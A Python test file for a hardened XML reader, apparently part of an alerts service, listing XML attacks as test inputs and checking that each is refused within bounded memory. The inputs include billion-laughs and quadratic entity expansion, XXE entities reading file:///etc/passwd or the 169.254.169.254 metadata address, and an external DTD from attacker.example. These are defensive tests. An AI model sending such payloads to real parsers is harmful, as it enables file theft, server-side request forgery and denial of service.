"""Attacks on the reader of XML: each is refused early, and none costs more than its own bytes do."""

import subprocess
import sys
from typing import Any, NamedTuple

import pytest

from chalicelib.alerts.cap import safe_xml
from chalicelib.alerts.cap.safe_xml import MAX_BYTES, MAX_DEPTH, MAX_ELEMENTS, tree
from chalicelib.core.errors import BadRequest, CrierError, TooLarge

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


class Attack(NamedTuple):
    name: str
    xml: bytes
    says: str


ATTACKS = [
    Attack(
        "billion laughs", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l11;</a>'.encode(), "document type"
    ),
    Attack(
        "laughs in an attribute",
        f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a b="&l11;"/>'.encode(),
        "document type",
    ),
    Attack(
        "quadratic",
        f'<!DOCTYPE a [<!ENTITY x "{"y" * 99_999}">]><a>{"&x;" * 9_999}</a>'.encode(),
        "document type",
    ),
    Attack("a file", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "document type"),
    Attack(
        "an address",
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>',
        "document type",
    ),
    Attack("a DTD of theirs", b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>', "document type"),
    Attack(
        "parameter entities",
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]><a/>',
        "document type",
    ),
    Attack("an entity of nowhere", b"<a>&x;</a>", "well formed"),
    Attack("50 MB", b"<a>" + b" " * 50_000_000 + b"</a>", "may hold 1,000,000 bytes"),
    Attack("deep nesting", b"<a>" * 300_000, "nested too deeply"),
    Attack("many elements", b"<a>" + b"<a/>" * 240_000 + b"</a>", "too many elements"),
    Attack("many attributes", b"<a " + b" ".join(b'a%d=""' % n for n in range(80_000)) + b"/>", "attributes"),
    Attack(
        "many namespaces",
        b"<a " + b" ".join(b'xmlns:a%d="x:y"' % n for n in range(40_000)) + b"/>",
        "attributes",
    ),
    Attack("it never ends", b"<a><b>", "well formed"),
    Attack("two roots", b"<a/><a/>", "well formed"),
    Attack("nothing", b"", "well formed"),
    Attack("bytes that are not UTF-8", b"<a>\xff</a>", "not UTF-8"),
    Attack("UTF-16 cut in two", "<a/>".encode("utf-16")[:-1], "not UTF-16"),
    Attack("UTF-16 without a mark", "<a/>".encode("utf-16-le"), "byte order mark"),
    Attack("UTF-32", "<a/>".encode("utf-32"), "UTF-32"),
    Attack(
        "a declaration that lies",
        b'<?xml version="1.0" encoding="UTF-16"?><a/>',
        "declares UTF-16 and is UTF-8",
    ),
    Attack("the other lie", '<?xml version="1.0" encoding="UTF-8"?><a/>'.encode("utf-16"), "declares UTF-8"),
    Attack("Latin-1", '<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode("latin-1"), "not UTF-8"),
    Attack(
        "an unknown encoding",
        b'<?xml version="1.0" encoding="x-user-defined"?><a/>',
        "declares x-user-defined",
    ),
    Attack("UTF-7", b'<?xml version="1.0" encoding="UTF-7"?><a/>', "declares UTF-7"),
    Attack("XML 1.1", b'<?xml version="1.1"?><a/>', "not XML 1.0"),
    Attack("a declaration of nonsense", b'<?xml verzion="1.0"?><a/>', "declaration"),
    Attack("a control character", b"<a>\x01</a>", "well formed"),
    Attack("a NUL", b"<a>\x00</a>", "no text"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_is_refused(attack: Attack) -> None:
    with pytest.raises(CrierError) as refused:
        tree(attack.xml)
    assert attack.says in refused.value.detail


def test_a_document_ends_where_its_bound_is_whatever_follows(monkeypatch: pytest.MonkeyPatch) -> None:
    begun = []
    start = safe_xml._Builder.start

    def counted(self: Any, tag: str, attributes: Any, namespaces: Any) -> None:
        begun.append(tag)
        start(self, tag, attributes, namespaces)

    monkeypatch.setattr(safe_xml._Builder, "start", counted)
    with pytest.raises(BadRequest):
        tree(b"<a>" * 300_000)
    assert len(begun) == MAX_DEPTH + 1
    begun.clear()
    with pytest.raises(BadRequest):
        tree(b"<a>" + b"<a/>" * 200_000)
    assert len(begun) == MAX_ELEMENTS + 1


def test_all_attacks_together_take_no_more_memory_than_a_large_message() -> None:
    """In a process that may have 60 MB more than it has with the attacks' own bytes."""
    code = (
        "import resource, sys\n"
        "from tests.alerts.cap.test_safe_xml import ATTACKS, CrierError, tree\n"
        "tree(b'<a/>')\n"
        "has = int(open('/proc/self/statm').read().split()[0]) * resource.getpagesize()\n"
        "resource.setrlimit(resource.RLIMIT_AS, (has + 60_000_000,) * 2)\n"
        "for attack in ATTACKS:\n"
        "    try: tree(attack.xml)\n"
        "    except CrierError: continue\n"
        "    sys.exit(attack.name)\n"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert ran.returncode == 0, ran.stderr


@pytest.mark.parametrize(
    "xml",
    [
        "<a>é</a>".encode(),
        b"\xef\xbb\xbf" + "<a>é</a>".encode(),
        "<a>é</a>".encode("utf-16"),
        b"\xfe\xff" + "<?xml version='1.0' encoding='utf-16'?><a>é</a>".encode("utf-16-be"),
        "<?xml version = '1.0' encoding = 'utf-8' standalone = 'yes' ?>\n<a>é</a>".encode(),
        b'<?xml version="1.0"?><a>\n&#233;<!-- <!DOCTYPE a> --></a>',
    ],
)
def test_what_every_reader_of_xml_knows_is_read(xml: bytes) -> None:
    assert tree(xml).text == "é"


def test_a_document_at_its_bound_is_read() -> None:
    assert tree(b"<a>" + b"x" * (MAX_BYTES - 7) + b"</a>").text == "x" * (MAX_BYTES - 7)
    with pytest.raises(TooLarge):
        tree(b"<a>" + b"x" * (MAX_BYTES - 6) + b"</a>")


def test_the_parser_is_loaded_by_the_first_document() -> None:
    code = (
        "import sys, chalicelib.alerts.cap.read, chalicelib.alerts.cap.write\n"
        "sys.exit('lxml.etree' in sys.modules)"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
